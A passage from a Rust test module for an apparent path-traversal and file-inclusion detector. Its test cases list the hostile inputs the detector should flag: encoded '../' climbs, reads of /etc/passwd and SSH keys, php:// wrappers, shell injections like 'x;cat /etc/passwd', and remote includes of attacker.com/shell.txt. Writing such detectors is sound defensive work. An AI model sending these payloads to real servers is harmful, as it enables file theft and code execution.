            "//cdn.example.com/lib.js",
            "\\n and \\t are escapes",
            "classpath: see below",
            "a / .. / b? no",
            "wait.. what/ok",
            "loading.../done",
            "std::$x",
            "static::$data",
            "parent::$DATA_DIR",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn climbing_in_many_spellings() {
        for v in [
            "../../etc/passwd",
            "..\\..\\boot.ini",
            "%2e%2e%2f%2e%2e%2fx",
            "%252e%252e%252fx",
            "..%c0%af..%c0%afx",
            "..%u2216..%u2216x",
            "....//....//x",
            "..;/..;/x",
            ".%00./x",
            "%uff0e%uff0e/a",
            "0x2e0x2e0x2fa",
            "0X2E0X2E0X2Fa",
            "/..",
            "a/../../b",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    #[test]
    fn sensitive_files_and_schemes() {
        for v in [
            "/etc/passwd",
            "/etc/nginx/nginx.conf",
            "/proc/self/environ",
            "C:\\Windows\\win.ini",
            "c:/boot.ini",
            "WEB-INF/web.xml",
            "/var/log/apache2/access.log",
            "~/.ssh/id_rsa",
            "file:///etc/hosts",
            "php://filter/convert.base64-encode/resource=index.php",
            "zip://shell.jpg#x.php",
            "expect://id",
            "boot.ini%00index.html",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    #[test]
    fn only_two_characters_outside_ascii_lower_case_to_ascii() {
        let found: Vec<char> = (0x80..=0x10ffff)
            .filter_map(char::from_u32)
            .filter(|c| c.to_lowercase().any(|l| l.is_ascii()))
            .collect();
        assert_eq!(found, LOWER_TO_ASCII);
    }

    #[test]
    fn ascii_case_folding_decides_as_full_lower_casing() {
        for v in [
            "ΟΔΟΣ /ETC/PASSWD ΣΑΣ",
            "Файл /ETC/PASSWD содержит",
            "ПРОСТО ТЕКСТ",
            "/etc/networ\u{212a}/interfaces",
            "\u{130}D_RSA",
            "../../\u{130}d_rsa",
            "İstanbul KELVIN \u{212a} ß ẞ /Etc/Shadow",
            "ÜBER ../../WINDOWS/WIN.INI",
            "Ｆｉｌｅ:///etc/passwd",
            "东京/ETC/PASSWD",
            "a\u{85}b/ÉTC/passwd",
        ] {
            for ctx in [Context::Param, Context::PathSegment] {
                let full = canonical_chars(&lenient_decode(v));
                assert_eq!(
                    judge_canonical(&canonical(v), ctx),
                    judge_canonical(&full, ctx),
                    "{v:?}"
                );
            }
        }
    }

    #[test]
    fn ascii_values_are_judged_as_their_canonical_form() {
        // Mixed case, separators, multi-line text: judged without the canonical copy, with
        // the same answers as on the canonical form.
        for v in [
            // (three levels: one or two to plain names are a relative link when typed, which
            // the canonical copy, made for escapes, is not taken for)
            "../../../ETC/PASSWD",
            "File:///etc/hosts",
            "PHP://filter/resource=x",
            "/Etc/Passwd",
            "a/b/../../C",
            "line one\nline/two",
            "see /ETC/passwd for users",
            "X/ETC..PASSWD/..Y",
            "docs/A.TXT",
            "0X2E0X2E/x",
        ] {
            assert_eq!(
                judge(v, Context::Param),
                judge_canonical(&canonical(v), Context::Param),
                "{v:?}"
            );
        }
    }

    #[test]
    fn only_a_spelled_dot_or_slash_needs_the_canonical_copy() {
        // Hex literals of SQL and code keep their text; `0x2e`, `0x2f`, `0x5c` in any case
        // become `.` or `/`.
        for (v, spelled) in [
            ("0x2e", true),
            ("0X2E0X2F", true),
            ("a0x5Cb", true),
            ("0x2F", true),
            ("1 union select 0x61646d696e/x", false),
            ("0x", false),
            ("0x2", false),
            ("0x2g/0x5d", false),
            ("x0 0 x2e", false),
            ("0xx2e/", false),
            ("X", false),
        ] {
            assert_eq!(spells_hex_separator(v), spelled, "{v}");
            assert_eq!(
                canonical(v) != v.to_ascii_lowercase(),
                spelled,
                "{v}: canonical rewrites it"
            );
        }
    }

    #[test]
    fn generated_values_are_judged_as_their_canonical_form() {
        // Texts glued from hex spellings, separators, dots, entries and prose: past the two
        // exits on the raw value (no relevant byte; plain ASCII prose, judged on itself),
        // whichever shortcut `judge` takes, its answer is that of the full analysis.
        const PIECES: &[&str] = &[
            "0x",
            "0X",
            "2e",
            "2E",
            "2f",
            "5c",
            "5C",
            "2g",
            "0",
            "x",
            "/",
            ".",
            "..",
            "etc",
            "passwd",
            "ETC/",
            "win.ini",
            "id_rsa",
            ".htaccess",
            " ",
            "\n",
            "word ",
            "_",
            "e.g.",
            "a",
            "9",
            ":",
            "file:",
            "<p>",
            "é",
            "，",
            "-",
            "c:",
            "proc/self/",
            ";",
        ];
        let mut next = lcg(0x9e37_79b9_7f4a_7c15);
        for _ in 0..4000 {
            let pieces = next(24);
            let v: String = (0..pieces).map(|_| PIECES[next(PIECES.len())]).collect();
            let classes = v.bytes().fold(0, |acc, b| acc | BYTE_CLASS[usize::from(b)]);
            let plain = classes & NOT_PLAIN == 0 && !(classes & ZERO != 0 && holds_hex_prefix(&v));
            if classes & RELEVANT == 0 || plain {
                continue;
            }
            for ctx in [Context::Param, Context::PathSegment] {
                assert_eq!(
                    judge(&v, ctx),
                    judge_canonical(&canonical(&v), ctx),
                    "{v:?}"
                );
            }
        }
    }

    #[test]
    fn text_outside_ascii_is_judged_as_its_canonical_form() {
        // Prose in other scripts, typographic marks: judged without the canonical copy when
        // that copy would only lower-case ASCII letters; look-alikes, C1 controls, private
        // use, U+FFFD, `İ` and KELVIN SIGN still take the copy. Either way the answers are
        // those on the canonical form.
        let kept = [
            "Все к лучшему /ETC/PASSWD в этом",
            "最大分片大小 (MSS) 是另外一种衡量包大小的方法。",
            "“/etc/passwd” 包含下列内容。",
            "Grüße «Win.ini» — ÜBER ../../x",
            "a\u{a0}b ° © ½ …",
            "东京/ETC/PASSWD",
            "中文、标点「括号」",
            "中文，标点（括号）！",
        ];
        let copied = [
            "a\u{85}b/ÉTC/passwd",
            "İD_RSA",
            "/etc/networ\u{212a}/interfaces",
            "．．／．．／x",
            "x\u{e001}/etc/passwd",
            "x\u{fffd}..\u{fffd}..",
            "\u{2215}etc\u{2215}passwd",
            "a\u{2044}b",
            "a\u{29f8}b\u{29f9}",
            "\u{2216}\u{ff3c}",
            "\u{2024}\u{2024}/x",
            "\u{fe52}\u{fe52}/x",
            // full-width ASCII, which NFKC makes ASCII
            "中文，标点：（括号）",
            "\u{ff45}\u{ff54}\u{ff43}",
            "\u{2025}/\u{2025}/x",
            "C:\u{a5}Windows",
        ];
        for v in kept.iter().chain(copied.iter()) {
            // as the decoder's own test of look-alikes answers, with the other characters
            let by_decoder = matches!(lenient_decode(v), std::borrow::Cow::Borrowed(_))
                && v.chars().all(|c| {
                    !(LOWER_TO_ASCII.contains(&c)
                        || c.is_control()
                        || matches!(c, '\u{fffd}' | '\u{e000}'..='\u{f8ff}'))
                });
            assert_eq!(non_ascii_kept(v), by_decoder, "{v:?}");
        }
        for v in kept {
            assert!(non_ascii_kept(v), "{v:?}");
            // and without a changed lead the value needs no look at all
            let classes = v.bytes().fold(0, |acc, b| acc | BYTE_CLASS[usize::from(b)]);
            assert_eq!(
                classes & CHANGED_LEAD == 0,
                !v.contains(['\u{a0}', '“', '«', '…', '，'])
            );
            assert_eq!(canonical(v), v.to_ascii_lowercase(), "{v:?}");
        }
        for v in copied {
            assert!(!non_ascii_kept(v), "{v:?}");
        }
        for v in kept.iter().chain(copied.iter()) {
            for ctx in [Context::Param, Context::PathSegment] {
                assert_eq!(judge(v, ctx), judge_canonical(&canonical(v), ctx), "{v:?}");
            }
        }
    }

    #[test]
    fn every_character_canonical_changes_has_a_changed_lead() {
        for c in (0x80..=0x10ffff).filter_map(char::from_u32) {
            let mut buf = [0u8; 4];
            let s = c.encode_utf8(&mut buf);
            let lead = BYTE_CLASS[usize::from(s.as_bytes()[0])];
            if lead & CHANGED_LEAD == 0 {
                assert_eq!(canonical(s), *s, "{c:?}");
            }
        }
    }

    #[test]
    fn bulk_mapping_agrees_with_the_per_character_one() {
        for v in [
            "..\\..\\Boot.INI",
            "a\0.\0.b\0c",
            ".\0.",
            "0X2E0x2F0x5c0x2g0x",
            "%zz%4%",
            "line\none\ttab\x01\x7f end",
            "PLAIN text, 100 words; 0 zeros",
            "",
            "0",
            "Grüße/ÄÖÜ\u{fffd}x\u{e001}y\u{85}z\u{0}.\u{0}.",
            "東京都/..\\0x2E",
            "\u{80}\u{9f}\u{a0}\u{ff}\u{100}\u{d7ff}\u{e000}\u{f8ff}\u{f900}\u{fffc}\u{fffd}",
            "\u{ffff}\u{10000}\u{10ffff}\u{f0000}é東\u{c2}",
        ] {
            assert_eq!(
                canonical_lower(v.to_lowercase()),
                canonical_chars(v),
                "{v:?}"
            );
        }
    }

    #[test]
    fn benign_paths_and_prose() {
        for v in [
            "docs/a.txt",
            "./img.png",
            "https://example.com/a/b?c=d",
            "12/05/2024",
            "3/4 cup",
            "wait... what?",
            "1.2.3",
            "v2.0.1-rc.1",
            "...",
            "and/or",
            "a / b / .. / c",
            "/home/dashboard",
            "/api/v1/users/42",
            "100% sure",
            "etc.",
            "Lorem ipsum, etc. and so on",
            "data:image/png;base64,iVBORw0KGgo=",
        ] {
            assert!(!hit(v), "{v}");
        }
        assert!(detect("..", Context::PathSegment).is_some());
        // A parameter that is only `..` typed stays quiet: testers writing ordinary values
        // send it (see [`lone_climb`]); spelled for a decoder it is a traversal scan's.
        assert!(detect("..", Context::Param).is_none());
        assert!(detect(" .. ", Context::Param).is_none());
        assert!(detect("...", Context::Param).is_none());
    }

    #[test]
    fn a_walk_that_stays_inside_its_base_is_judged_by_its_target() {
        // Back to a route or page beside the directory, from the root; a Markdown link
        // with an anchor in the page.
        for v in [
            "/products/shoes/../bags",
            "/docs/guide/../api/",
            "/shop/women/../men/shirts",
            "../CHANGELOG.md#v2-0-0",
            "../docs/setup.md#install",
            "docs/../README.md#usage",
            // one step up (a doubled separator is one) to a name opening with two dots:
            // how a password may start
            "..//..Secret1",
            "..//lib",
            "../..Hunter2",
            "../../Pass9!",
            "../news/wow!",
            // a relative path back to a sibling route, page or document
            "a/b/../c",
            "x/../y",
            "x/../y.txt",
            "docs/v1/../v2/install",
            // a word that trails off in an ellipsis, then a step up
            "ok.../..",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        // Below the start, a file of the application or a dot-file as the target, a
        // relative path past a prefix, a fragment that holds a path, a query.
        for v in [
            "/products/shoes/../../../etc/passwd",
            "/static/../../../etc/passwd",
            "/images/../config.php",
            "/images/../.env",
            "/products/shoes/../bags?file=../../etc/passwd",
            "uploads/../config.php",
            "a/b/../config/db",
            "x/../y/../../z",
            "static/../passwords.txt",
            "static/../Passwd.txt",
            "ok.../../..",
            "uploads/..",
            "../CHANGELOG.md#/../../../etc/passwd",
            "../CHANGELOG.md#x/../../y",
            "../../../CHANGELOG.md#v2",
            "../lib?x=1",
            "..//..//..//etc/passwd",
            "..//..//x",
            "..//..Secret1/../../../etc/passwd",
            "../..env/../.env",
            "..//.env",
            "../../../Pass9!",
            "../../x!/../../etc",
            "....//....//etc/passwd",
            "..%2f..%2fetc",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn a_typed_backslash_steps_up_as_a_slash_does() {
        // One or two steps up to a plain name: the forward-slash spelling is a relative
        // link, and a backslash typed on Windows or in a random password is the same.
        for v in [
            "..\\Win1!",
            "..\\dotdot1A",
            "..\\lib",
            "..\\..\\assets\\app.js",
            "..\\docs\\README.md",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        // Deeper, to the application's settings or the system, escaped, or mixed with
        // an escape a decoder reads.
        for v in [
            "..\\..\\..\\Win1!",
            "..\\config.php",
            "..\\..\\windows\\win.ini",
            "..\\.env",
            "..%5cWin1!/../..",
            "..%5c..%5c..%5cboot.ini",
            "..\\..\\x\\..\\..\\etc",
            "..\\lib?x=1",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn a_step_up_named_in_a_sentence_is_no_path() {
        // A search for what the characters mean: a blank and words after one `../`.
        for v in [
            "../ in path meaning",
            "..\\ on windows",
            "../ meaning in linux",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        // The step alone (a parameter joined to a directory), more steps, a path after
        // the blank.
        for v in [
            "../",
            "..\\",
            "../ ",
            "../ ../../etc/passwd",
            "../ x/../../y",
            "../../ in path",
            "../ ..",
        ] {
            assert!(hit(v), "missed {v:?}");
        }
    }

    #[test]
    fn a_base64_value_is_judged_decoded_in_every_context() {
        // `../../../etc/passwd`, `/etc/shadow`, `php://filter/resource=index.php`,
        // URL-safe `../../.env` unpadded.
        for v in [
            "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
            "L2V0Yy9zaGFkb3c=",
            "cGhwOi8vZmlsdGVyL3Jlc291cmNlPWluZGV4LnBocA==",
            "Li4vLi4vLmVudg",
        ] {
            for ctx in [
                Context::Param,
                Context::Header,
                Context::Key,
                Context::Cookie,
            ] {
                assert!(detect(v, ctx).is_some(), "missed {v:?} in {ctx:?}");
            }
        }
        // Tokens, ids and words that are base64-shaped: binary or plain text out
        // (`aGVsbG8gd29ybGQ=` is `hello world`, `dXNlcjpwYXNz` is `user:pass`,
        // `Li4vbGli` is the link `../lib`).
        for v in [
            "aGVsbG8gd29ybGQ=",
            "dXNlcjpwYXNz",
            "Li4vbGli",
            "5f2b8c1e9a7d4e3f",
            "eyJhbGciOiJIUzI1NiJ9",
            "abcdefghijkl",
            "/usr/local/bin",
            "550e8400-e29b-41d4-a716-446655440000",
        ] {
            assert!(!hit(v), "flagged {v:?}");
        }
        assert_eq!(base64_text("Li4vLi4v").as_deref(), Some("../../"));
        assert_eq!(base64_text("Li4v_-"), None, "mixed alphabets or too short");
        assert_eq!(base64_text("AAAAAAAA"), None, "binary");
        assert_eq!(base64_text("Li4vLi4v==="), None, "three pads");
    }
}

#[cfg(test)]
mod spellings {
    use super::*;

    #[test]
    fn more_spellings() {
        for v in [
            "..%255c..%255cwindows%255cwin.ini",
            "%2e%2e/%2e%2e/x",
            "/%2e%2e/%2e%2e/x",
            "..%00/..%00/x",
            ".%2e/.%2e/x",
            "%c0%ae%c0%ae/x",
            "．．／．．／x",
            "..%E2%88%95..%E2%88%95x",
            "/etc/passwd%00.jpg",
            "file:///c:/windows/win.ini",
            "C:/inetpub/wwwroot/web.config",
            "/proc/self/cmdline",
            "/var/log/nginx/access.log",
            "C:\\inetpub\\logs\\LogFiles\\W3SVC1",
            "../../wp-config",
            "\\\\dc01\\SYSVOL\\corp.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\Groups\\Groups.xml",
            "../../configuration",
            "/usr/local/var/postgres/pg_hba.conf",
            "/opt/homebrew/var/mysql/my.cnf",
            "/u01/oracle/user_projects/domains/base_domain/security/SerializedSystemIni.dat",
            "/var/www/app/storage/oauth-private.key",
            "..%u002f..%u002fx",
            "..\\/..\\/x",
        ] {
            assert!(detect(v, Context::Param).is_some(), "{v}");
        }
        for v in [
            "1/2 cup of sugar",
            "v1.0/v2.0",
            "he left... / she stayed",
            "src/main.rs",
            "C:\\inetpub\\wwwroot",
            "IIS keeps its logs under inetpub/logs/ by default",
            "../../products/wp-themes",
            "/api/user/preferences/groups",
            "slides/keynote.key",
            "edit my.cnf to raise max_connections",
        ] {
            assert!(detect(v, Context::Param).is_none(), "{v}");
        }
    }
}

#[cfg(test)]
mod prose {
    use super::*;

    #[test]
    fn a_file_named_in_running_text_is_not_a_path() {
        for v in [
            "see /etc/passwd for the list of users",
            "Добавьте эту строку в свой файл WIN.INI: BUGS=OFF",
            "löscht die Win.ini und die System.ini",
            "编辑根分区的\"/etc/passwd\"文件，使 root 账户条目的第二段为空。",
            "the \"id_rsa\" key stays on your laptop",
            // the path opens the value and a sentence follows it
            "/etc/init.d/networking gdzieś w sekcji start",
            "“/etc/passwd” 包含下列内容。",
            "/etc/passwd holds one line per account",
            // the whole text of an element
            "Uses <code>'/bin/sh'</code> on Unix",
            "<p>Edit <tt>/etc/shadow</tt> with vipw.</p>",
        ] {
            assert!(detect(v, Context::Param).is_none(), "{v}");
        }
    }

    #[test]
    fn a_file_given_as_a_path_still_is() {
        for v in [
            "/etc/passwd",
            "  \"/etc/passwd\"",
            "page=/etc/passwd",
            "include('/etc/passwd')",
            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
            "x;cat /etc/passwd",
            "php://filter/resource=/etc/passwd",
            "..\\..\\windows\\win.ini",
            "C:\\boot.ini",
            "web/../../../etc/shadow",
            "images/../../.ssh/id_rsa",
            "{{ include 'WEB-INF/web.xml' }}",
            // a path and then more than a sentence's words, or code after it
            "/etc/passwd%00",
            "/etc/passwd HTTP/1.1",
            "/etc/passwd; ls",
            "/etc/passwd && id",
            "\"/etc/passwd\" or 1=1",
            "/etc/passwd x",
            // markup around a path that is not an element's whole text
            "<img src=\"/etc/passwd\">",
            "<a href=file:///etc/passwd>x</a>",
            "<x>../../etc/passwd</x>",
            "<x>/etc/passwd;id</x>",
        ] {
            assert!(detect(v, Context::Param).is_some(), "{v}");
        }
    }

    #[test]
    fn prose_is_judged_on_the_paths_own_line_and_from_the_paths_start() {
        // Package descriptions and manuals: asides in parentheses, lists, abbreviations, CJK
        // punctuation, a path nested in a path, code syntax on an earlier line.
        for v in [
            "bazy użytkowników (/etc/passwd i /etc/group), zawierająca",
            "files (e.g. wtmp, /etc/passwd, nfs).",
            "benötigt werden, z.B. /etc/mysql/my.cnf.",
            "arquivos de log (ex.: /var/log/auth.log, /var/log/apache/access.log) e",
            "这些文件是用户数据文件(/etc/passwd 和 /etc/group)的完整拷贝",
            "重要的文件，例如\n/etc/debian_version、/etc/issue、/etc/motd、/etc/profile\n及其它文件",
            "добавляя их в файл ~/.ssh/authorized_keys, принадлежащий пользователю",
            "通常是通过分析 /proc/cpuinfo，显示系统信息",
            " * 4 = Devices (e.g. hd, sd).\nsupplement the /etc/init.d/urandom init script.",
            "a complete diff (which is not desirable for e.g. /etc/shadow).",
            "takich jak: /etc/debian_version, /etc/host.conf,\n/etc/issue, /etc/motd itd.",
            "bazy użytkowników (/etc/passwd\ni /etc/group), zawierająca",
            "在启动系统的时候， \"/etc/network/interfaces\" 文件里下面的配置条目",
            "tools (`diffmon' for instance), but not for e.g. /etc/shadow",
            "skrzynek\npocztowych /var/spool/mail, ze względu na",
        ] {
            assert!(detect(v, Context::Param).is_none(), "{v}");
        }
        // The same paths where a file is read: code or shell syntax on the path's line, a
        // command word and the path, a path glued to code through a parenthesis.
        for v in [
            "cat /root/.ssh/id_rsa",
            "head /etc/shadow",
            "abc\ncat /etc/passwd",
            "x (y) ;cat /etc/passwd",
            "include(/etc/passwd)",
            "$(cat /etc/passwd)",
            "(cat /etc/passwd)",
            "note (\"/etc/passwd\")",
            "see x=/etc/passwd and more words",
            "docs\n<!--#include virtual=\"/etc/passwd\" -->",
            "/bin/cat /etc/passwd",
            "x\n/usr/bin/head /etc/shadow",
            "see `cat /etc/passwd`",
            "see `id' and `cat /etc/passwd`",
            "cat /etc/passwd, /etc/shadow",
            "x\ncat /etc/passwd,id",
        ] {
            assert!(detect(v, Context::Param).is_some(), "{v}");
        }
    }

    #[test]
    fn a_package_path_is_not_a_file_url() {
        for v in [
            "File::Find::Rule::Perl provides methods for finding files",
            "File::Listing exports parse_dir()",
            "file:",
        ] {
            assert!(detect(v, Context::Param).is_none(), "{v}");
        }
        for v in [
            "file:///etc/passwd",
            "file:/etc/passwd",
            "FILE://c:/boot.ini",
        ] {
            assert!(detect(v, Context::Param).is_some(), "{v}");
        }
    }

    #[test]
    fn scripts_in_scratch_directories() {
        for v in ["/tmp/x.php", "/dev/shm/s.phtml", "/var/tmp/a.PHP"] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "...",
            ".",
            "..more",
            "/tmp/report.pdf",
            "/tmp/x.php is gone",
            "/home/x.php",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn system_package_scripts_and_settings_by_absolute_path() {
        for v in [
            "/usr/local/lib/php/pearcmd.php",
            "/usr/share/php/PEAR/Command.php",
            "/usr/lib/php/peclcmd.php",
            "/opt/gitlab/etc/gitlab.rb",
            "/usr/local/nginx/conf/nginx.conf",
            "/opt/bitnami/apache/conf/httpd.conf",
            "/opt/keycloak/conf/keycloak.conf",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "/opt/app/config.yml",
            "/usr/share/doc/nginx/README",
            "/usr/share/doc/php/examples/conf/sample.ini",
            "/usr/local/bin/node",
            "/usr/lib/python3/dist-packages/six.py",
            "/usr/share/icons/hicolor/index.theme",
            "/opt/gitlab/etc",
            "edit /opt/gitlab/etc/gitlab.rb and run reconfigure",
            "/api/lib/php/list.php",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn document_root_files_on_any_drive() {
        for v in [
            r"C:\xampp\htdocs\config.php",
            r"C:\xampp\htdocs\config.php.",
            r"C:\xampp\htdocs\config.php. .",
            r"C:\wamp64\www\config.php",
            r"D:\Sites\wwwroot\App_Code\db.cs.config",
            "c:/inetpub/wwwroot/web.config",
            "/home/bob/public_html/config.php",
            "/opt/lampp/htdocs/wp-login.php",
            "/var/www/html/config.php.",
            r"C:\Users\Administrator\Desktop\flag.txt",
            r"C:\Documents and Settings\Administrator\secret.txt",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            r"C:\fakepath\resume.pdf",
            r"C:\Users\me\Documents\cv.docx",
            r"C:\Program Files\App\app.exe",
            r"C:\xampp\htdocs\readme.html",
            r"C:\xampp\htdocs",
            "/www/index.php",
            "/htdocs/contact.php",
            "see C:/xampp/htdocs/index.php for details",
            r"C:\Users\Administrator",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn remote_include_cut_by_query_or_fragment() {
        for v in [
            "http://attacker.com/shell.txt?",
            "http://attacker.com/shell.txt#",
            "http://attacker.com/shell.txt%23",
            "http://attacker.com/shell.txt%3F",
            "http://attacker.com/shell.txt%00",
            "include=http://attacker.com/shell.txt?",
            "page=http://attacker.com/shell.txt%23",
            "http://evil.example.net/r57.txt?.php",
            "hTTp://198.51.100.23:8080/inc.txt??",
            "ftp://anonymous@198.51.100.23/pub/shell.php",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "http://attacker.com/shell.txt",
            "https://example.com/search?",
            "https://example.com/index.php?",
            "https://example.com/docs/page.html#",
            "url=https://example.com/search?",
            "https://pastebin.com/raw/abcd1234?",
            "see http://example.com/notes.txt#",
            "ftp://ftp.example.org/pub/linux/README.txt",
            "ftp://ftp.example.org/pub/tool-1.2.tar.gz",
            "https://example.com/page.php?.x=1",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn climb_in_a_header_parameter() {
        for v in [
            r#"form-data; name="file"; filename="..%2f..%2fshell.php""#,
            r#"form-data; name="file"; filename="../../shell.php""#,
            "attachment; filename='..%2f..%2fx.php'",
        ] {
            assert!(detect(v, Context::Header).is_some(), "missed {v:?}");
        }
        for v in [
            r#"form-data; name="file"; filename="report.pdf""#,
            r#"<a href="../page.php">up</a>"#,
            r#"attachment; filename="../""#,
        ] {
            assert!(detect(v, Context::Header).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn script_extension_before_a_parameter() {
        for v in [
            "file.asp;.jpg",
            "shell.php;.jpg",
            "x.aspx;.png",
            "up/x.asp;1.jpg",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "a;b.png",
            "report;final.pdf",
            "style.css;charset=utf-8",
            "/shop/index.jsp;jsessionid=0A1B2C",
            "x.php; y.jpg",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn application_tree_secrets_named_as_a_whole_value() {
        for v in [
            // framework settings with credentials
            "settings.py",
            "mysite/local_settings.py",
            "appsettings.json",
            "appsettings.Staging.json",
            "app/etc/local.xml",
            "configuration.php",
            "LocalSettings.php",
            "config.inc.php",
            "application.yaml",
            "bootstrap.properties",
            "application-dev.properties",
            "config/application-prod.yml",
            "parameters.yml",
            "settings.py.bak",
            // private keys
            "id_rsa",
            "ID_ECDSA",
            " id_ed25519 ",
            "keys/server.ppk",
            "ssl/privkey.pem",
            // database dumps and files
            "backup.sql",
            "db/prod-2024.sql.gz",
            "users.dump",
            "./data/app.sqlite3",
            "site.sql.zip",
            // cloud and infrastructure secrets
            "credentials.json",
            "config/serviceAccountKey.json",
            "client_secret_1234.apps.googleusercontent.com.json",
            "terraform.tfstate",
            "infra/prod.auto.tfvars",
            "vars.tfvars.json",
            // deployment configurations and logs
            "sftp-config.json",
            ".vscode/sftp.json",
            ".ftpconfig",
            "docker-compose.yml",
            "docker-compose.prod.yaml",
            "wp-content/debug.log",
            // encoded
            "settings%2epy",
            "config%2Fdatabase.yml",
        ] {
            assert_eq!(
                detect(v, Context::Param).map(|d| d.reason),
                Some("sensitive-file"),
                "{v:?}"
            );
        }
        for v in [
            // prose and documentation naming one
            "edit settings.py and restart",
            "see appsettings.json docs",
            "how to write docker-compose.yml",
            "https://example.com/docs/settings.py",
            // ordinary upload names and words
            "report.pdf",
            "config.png",
            "settings.png",
            "settings",
            "credentials",
            "backup",
            "id_rsa.pub",
            "id_card",
            "docker-compose",
            "package.json",
            "index.php",
            "application.pdf",
            "sql.txt",
            "dump.tar.gz",
            "my-settings.py",
            "compose.yml",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn a_lone_parent_spelled_for_a_decoder() {
        for v in [
            "%2e%2e",
            ".%2e",
            "%2E.",
            "%252e%252e",
            " %2e%2e ",
            "&#46;&#46;",
        ] {
            assert_eq!(
                detect(v, Context::Param).map(|d| d.reason),
                Some("climb"),
                "{v:?}"
            );
        }
        for v in ["..", "...", ". .", "%2e", "%2e%2e%2e", "a..", "..a"] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
        for v in ["..", "%2e%2e"] {
            assert!(detect(v, Context::PathSegment).is_some(), "missed {v:?}");
            assert!(detect(v, Context::Cookie).is_none(), "flagged {v:?}");
        }
    }

    #[test]
    fn endless_devices_and_extensionless_build_files() {
        for v in [
            "/dev/zero",
            "/dev/urandom",
            "/dev/random",
            "../../../../dev/urandom",
            "../../Dockerfile",
            "../Jenkinsfile",
            "static/../Makefile",
        ] {
            assert!(detect(v, Context::Param).is_some(), "missed {v:?}");
        }
        for v in [
            "/blog/dev/random",
            "/dev/random-thoughts",
            "/dev/null",
            "Dockerfile",
            "../users",
            "docs/../README.md",
            "../../lib",
            "dev/zero",
        ] {
            assert!(detect(v, Context::Param).is_none(), "flagged {v:?}");
        }
    }
}
